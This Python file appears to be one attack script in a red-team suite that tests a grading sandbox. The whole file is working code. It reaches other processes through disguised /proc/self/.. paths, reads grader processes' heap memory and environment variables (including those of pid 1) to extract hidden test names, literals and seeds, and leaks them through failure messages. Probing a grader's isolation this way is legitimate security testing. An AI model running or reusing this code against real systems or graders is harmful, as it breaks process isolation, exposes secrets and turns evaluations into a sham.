"""Attack 6 (rag4): read other processes through /proc, by paths that start /proc/self/ (so they pass for
the lab's own): every process's cmdline (its class's graders, by their --grade-json), the graders' memory
(/proc/<grader>/maps and mem) searched for the hidden tests' names and string literals (the failures
pytest keeps quote their source), the ACADEMY_ variables of the grader's and of pid 1's environment; then
put what it found in every failure message, public ones included. It reports what it reached."""

import os
import re
import time

from kit import fail_with, quietly, read_bytes, window

HIDDEN = (re.compile(rb'(?:text|PAGE|TEXT) = "([^"\\\x00-\x1f]{8,80})'),  # a literal in a test's quoted source
          re.compile(rb"_hidden[a-z_]*\[([^\[\]\x00-\x1f]{3,60})\]"))  # a hidden test's parameters, in its name
REGION_LIMIT, MEMORY_LIMIT = 128 << 20, 512 << 20  # bytes read from one mapping, and from the grader in all
RESCAN = 5.0  # seconds between two reads of the grader's memory


def processes() -> dict:
    """{pid: cmdline} of every process /proc shows, reached through /proc/self/.."""
    found = {}
    for pid in filter(str.isdigit, quietly(os.listdir, "/proc/self/..") or []):
        command = quietly(read_bytes, f"/proc/self/../{pid}/cmdline")
        if command:
            found[int(pid)] = command.replace(b"\0", b" ").decode(errors="replace")
    return found


def memory(pid: int):
    """The readable, writable anonymous mappings of process `pid`, read through /proc/self/../pid/mem."""
    maps = quietly(read_bytes, f"/proc/self/../{pid}/maps") or b""
    total = 0
    with open(f"/proc/self/../{pid}/mem", "rb", buffering=0) as mem:
        for line in maps.decode().splitlines():
            fields = line.split()
            start, end = (int(edge, 16) for edge in fields[0].split("-"))
            if not fields[1].startswith("rw") or (len(fields) > 5 and fields[5] != "[heap]"):
                continue
            if end - start > REGION_LIMIT or total > MEMORY_LIMIT:
                continue
            total += end - start
            mem.seek(start)
            data = quietly(mem.read, end - start)
            if data:
                yield data


def secrets_in(pid: int) -> list:
    """What looks like a hidden test's name or literal in the memory of process `pid`, one mapping at a time."""
    found = []

    def scan():
        for data in memory(pid):
            for pattern in HIDDEN:
                found.extend(match.decode(errors="replace") for match in pattern.findall(data))

    quietly(scan)
    return found


def environment_secrets(pid) -> list:
    """The ACADEMY_ variables of process `pid` (the seed of the hidden tests, the folders it forbids)."""
    environ = quietly(read_bytes, f"/proc/self/../{pid}/environ") or b""
    return [entry.decode(errors="replace") for entry in environ.split(b"\0") if entry.startswith(b"ACADEMY_")]


def attack(lab: dict) -> None:
    reached, found = [], []
    students = os.path.dirname(os.path.dirname(os.path.dirname(lab["__file__"])))  # OUT/students: its class
    graders = [pid for pid, command in processes().items() if "--grade-json" in command and students in command]
    if graders:
        reached.append(f"processes ({len(graders)} graders)")
    for pid in graders:
        found += secrets_in(pid)
        found += environment_secrets(pid)
    found += environment_secrets(1)
    if graders and found:
        reached.append("grader-memory")
    state = {"found": list(dict.fromkeys(found)), "read": time.monotonic(), "calls": 0}

    def message(function, args):
        if graders and time.monotonic() - state["read"] > RESCAN:  # the failures pytest keeps since
            state["found"] = list(dict.fromkeys(state["found"] + sum((secrets_in(pid) for pid in graders), [])))
            state["read"] = time.monotonic()
        state["calls"] += 1
        notes = f"redteam-reached: {', '.join(reached)}; " if reached else ""
        return notes + "redteam-leak: " + window(state["found"], state["calls"])

    fail_with(lab, message)
